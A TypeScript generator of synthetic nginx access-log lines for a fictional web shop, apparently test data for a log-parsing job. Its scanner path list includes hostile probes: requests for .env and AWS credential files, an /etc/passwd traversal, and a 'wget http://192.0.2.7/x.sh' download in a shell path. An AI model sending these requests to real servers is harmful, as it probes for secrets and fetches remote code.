/**
 * A made-up web shop's traffic as nginx logs it in the "combined" format. The mix is
 * shaped like real logs so the job meets what it would meet in production: a few pages
 * take most hits (Zipf), scanners probe for files that do not exist, clients speak TLS to
 * the plain-HTTP port, and nginx escapes `"`, `\`, control bytes and bytes >= 0x7F as \xHH.
 */
import { zipfSampler, type Random } from './generator-kit.js';

type Kind = 'page' | 'api' | 'static' | 'search' | 'scanner';

interface Route {
  kind: Kind;
  path: string;
}

/** "value:weight" per mille; each kind fails in its own way (assets mostly 304, scanners mostly 404). */
const STATUSES: Record<Kind, string> = {
  page: '200:870 304:30 301:25 302:25 404:20 499:5 500:10 502:6 503:5 504:4',
  api: '200:800 201:30 204:20 400:30 401:25 403:10 404:25 409:5 422:10 429:10 499:5 500:15 502:7 503:5 504:3',
  static: '200:690 304:280 404:25 499:5',
  search: '200:900 400:25 499:20 500:20 504:35',
  scanner: '404:840 403:100 400:20 301:40',
};

const METHODS: Record<Kind, string> = {
  page: 'GET:960 HEAD:30 POST:10',
  api: 'GET:600 POST:250 PUT:70 DELETE:50 PATCH:20 OPTIONS:10',
  static: 'GET:995 HEAD:5',
  search: 'GET:1000',
  scanner: 'GET:800 POST:150 HEAD:50',
};

/** What scanners probe for, as nginx logs it (space-separated). */
const SCANNER_PATHS = (
  '/.env /.git/config /.aws/credentials /wp-login.php /wp-admin/ /xmlrpc.php /phpmyadmin/index.php /admin.php ' +
  '/config.json /server-status /cgi-bin/luci /boaform/admin/formLogin /actuator/env /HNAP1/ /owa/auth/logon.aspx ' +
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /solr/admin/info/system /.DS_Store /backup.zip /db.sql ' +
  '/console/ /manager/html /api/.env /.well-known/security.txt http://azenv.net/ /%2e%2e/%2e%2e/etc/passwd ' +
  String.raw`/index.php?s=/Index/\x5Cthink\x5Capp/invokefunction /shell?cd+/tmp;wget+http://192.0.2.7/x.sh`
).split(' ');

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'okhttp/4.12.0',
  'ShopApp/3.14.2 (iOS 17.4; iPhone15,2)',
  'Mozilla/5.0 (compatible; \\x22Monitor\\x22 uptime checker/1.0)',
];

const SCANNER_AGENTS = [
  '-',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'zgrab/0.x',
  'Mozilla/5.0 zgrab/0.x',
  'masscan/1.3',
];

const REFERERS = [
  'https://www.google.com/',
  'https://www.bing.com/',
  'https://duckduckgo.com/',
  'https://t.co/x7Qz',
  'android-app://com.google.android.gm/',
];

const WORDS = 'red blue lamp chair desk shoe coat mug tea oak linen wool steel sofa rug vase'.split(' ');

/** nginx's escaping of a ClientHello sent to a plain-HTTP port: the request line is raw bytes. */
const TLS_HELLO = '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03';

export class NginxTraffic {
  private readonly routes: Route[];
  private readonly route: () => number;
  private readonly clients: string[];
  private readonly client: () => number;
  private readonly agent: () => number;
  private readonly statuses: Record<Kind, () => string>;
  private readonly methods: Record<Kind, () => string>;

  constructor(private readonly random: Random) {
    this.routes = buildRoutes(random);
    this.route = zipfSampler(random, this.routes.length, 1.05);
    this.clients = buildClients(random);
    this.client = zipfSampler(random, this.clients.length, 0.9);
    this.agent = zipfSampler(random, BROWSERS.length, 1.2);
    this.statuses = mapKinds((kind) => weighted(random, STATUSES[kind]));
    this.methods = mapKinds((kind) => weighted(random, METHODS[kind]));
  }

  /** One log line, newline included; `time` is nginx's $time_local, e.g. "01/Mar/2024:13:55:36 +0000". */
  line(time: string): string {
    const roll = this.random.next();
    if (roll < 0.004) return this.broken(time, roll);
    const route = roll < 0.03 ? { kind: 'scanner' as const, path: this.random.pick(SCANNER_PATHS) } : this.routes[this.route()]!;
    const target = this.target(route);
    // A path with escaped raw bytes names nothing on this site.
    const status = target.includes('\\x') ? 404 : Number(this.statuses[route.kind]());
    const request = `${this.methods[route.kind]()} ${target} ${this.protocol()}`;
    const user = route.kind === 'api' && this.random.next() < 0.02 ? this.random.pick(['alice', 'bob', 'svc-sync']) : '-';
    const agent = route.kind === 'scanner' ? this.random.pick(SCANNER_AGENTS) : BROWSERS[this.agent()]!;
    const client = route.kind === 'scanner' ? this.clients[this.random.int(20)]! : this.clients[this.client()]!;
    return `${client} - ${user} [${time}] "${request}" ${status} ${this.bodySize(route.kind, status)} "${this.referer(route)}" "${agent}"\n`;
  }

  /**
   * Requests nginx answers with 400. The job skips "-", the TLS bytes and the malformed
   * request lines; `PRI * HTTP/2.0` and `CONNECT host:443 HTTP/1.1` are well formed and count.
   */
  private broken(time: string, roll: number): string {
    const client = this.clients[this.random.int(this.clients.length)]!;
    const request =
      roll < 0.0025
        ? '-'
        : roll < 0.0035
          ? TLS_HELLO + this.randomEscapes(4 + this.random.int(12))
          : this.random.pick(['GET /', 'GET /a b HTTP/1.1', 'get / HTTP/1.1', 'PRI * HTTP/2.0', 'CONNECT www.example.org:443 HTTP/1.1']);
    return `${client} - - [${time}] "${request}" 400 ${request === '-' ? 0 : 157} "-" "-"\n`;
  }

  private target(route: Route): string {
    const roll = this.random.next();
    switch (route.kind) {
      case 'search':
        return `${route.path}?q=${this.random.pick(WORDS)}+${this.random.pick(WORDS)}&page=${1 + this.random.int(5)}`;
      case 'api':
        return roll < 0.3 ? `${route.path}?page=${1 + this.random.int(40)}&limit=${this.random.pick([10, 20, 50])}` : route.path;
      case 'static':
        return roll < 0.2 ? `${route.path}?v=${this.random.int(1 << 20).toString(16)}` : route.path;
      case 'page':
        if (roll < 0.08) return `${route.path}?utm_source=${this.random.pick(['newsletter', 'twitter', 'ads'])}&utm_medium=email`;
        // Bots that send raw UTF-8 in the path: nginx logs those bytes escaped.
        if (roll < 0.081) return `${route.path}/caf\\xC3\\xA9`;
        return route.path;
      default:
        return route.path;
    }
  }

  private protocol(): string {
    const roll = this.random.next();
    return roll < 0.7 ? 'HTTP/1.1' : roll < 0.97 ? 'HTTP/2.0' : 'HTTP/1.0';
  }

  private bodySize(kind: Kind, status: number): number {
    if (status === 304 || status === 204 || status === 499) return 0;
    if (status >= 300) return 150 + this.random.int(420);
    if (kind === 'static') return 800 + this.random.int(this.random.next() < 0.1 ? 900_000 : 60_000);
    return kind === 'api' ? 40 + this.random.int(6000) : 4000 + this.random.int(80_000);
  }

  private referer(route: Route): string {
    const roll = this.random.next();
    if (route.kind === 'scanner' || roll < 0.45) return '-';
    if (roll < 0.85) return `https://shop.example.com${this.routes[this.route()]!.path}`;
    return this.random.pick(REFERERS);
  }

  private randomEscapes(count: number): string {
    let text = '';
    for (let i = 0; i < count; i++) text += `\\x${this.random.int(256).toString(16).toUpperCase().padStart(2, '0')}`;
    return text;
  }
}

/** A few thousand routes in random order, so the hottest ones are a mix of pages, assets and API calls. */
function buildRoutes(random: Random): Route[] {
  const routes: Route[] = ['/', '/about', '/pricing', '/contact', '/login', '/logout', '/signup', '/cart', '/checkout'].map((path) => ({
    kind: 'page',
    path,
  }));
  const add = (kind: Kind, count: number, make: (i: number) => string): void => {
    for (let i = 0; i < count; i++) routes.push({ kind, path: make(i) });
  };
  add('page', 900, (i) => `/products/${random.pick(WORDS)}-${random.pick(WORDS)}-${1000 + i}`);
  add('page', 400, (i) => `/blog/${2019 + (i % 6)}/${String(1 + (i % 12)).padStart(2, '0')}/${random.pick(WORDS)}-notes-${i}`);
  add('page', 160, (i) => `/docs/${['setup', 'billing', 'shipping', 'returns', 'api', 'faq', 'account', 'privacy'][i % 8]}/topic-${i}`);
  add('page', 30, (i) => `/category/${WORDS[i % WORDS.length]}${i >= WORDS.length ? '-sale' : ''}`);
  add('api', 600, (i) => `/api/v1/users/${10_000 + i}`);
  add('api', 500, (i) => `/api/v1/orders/${500_000 + i * 7}`);
  add('api', 200, (i) => `/api/v2/products/${1000 + i}/reviews`);
  for (const path of ['/api/v1/cart', '/api/v1/session', '/api/v1/health', '/graphql']) routes.push({ kind: 'api', path });
  add('static', 60, (i) => `/static/js/chunk-${i}.${(i * 2654435761) >>> 0}.js`);
  add('static', 20, (i) => `/static/css/page-${i}.css`);
  add('static', 300, (i) => `/images/${random.pick(WORDS)}-${i}.jpg`);
  for (const path of ['/favicon.ico', '/robots.txt', '/sitemap.xml', '/apple-touch-icon.png']) routes.push({ kind: 'static', path });
  routes.push({ kind: 'search', path: '/search' });
  for (let i = routes.length - 1; i > 0; i--) {
    const j = random.int(i + 1);
    [routes[i], routes[j]] = [routes[j]!, routes[i]!];
  }
  return routes;
}

function buildClients(random: Random): string[] {
  const clients = Array.from({ length: 6000 }, () => `${1 + random.int(223)}.${random.int(256)}.${random.int(256)}.${1 + random.int(254)}`);
  for (let i = 0; i < 300; i++) clients.push(`2001:db8:${random.int(65536).toString(16)}::${random.int(65536).toString(16)}`);
  return clients;
}

/** A sampler over "value:weight" pairs, as an array with each value repeated `weight` times. */
function weighted(random: Random, table: string): () => string {
  const slots = table.split(' ').flatMap((pair) => {
    const [value, weight] = pair.split(':');
    return Array<string>(Number(weight)).fill(value!);
  });
  return () => slots[random.int(slots.length)]!;
}

function mapKinds<T>(make: (kind: Kind) => T): Record<Kind, T> {
  return { page: make('page'), api: make('api'), static: make('static'), search: make('search'), scanner: make('scanner') };
}
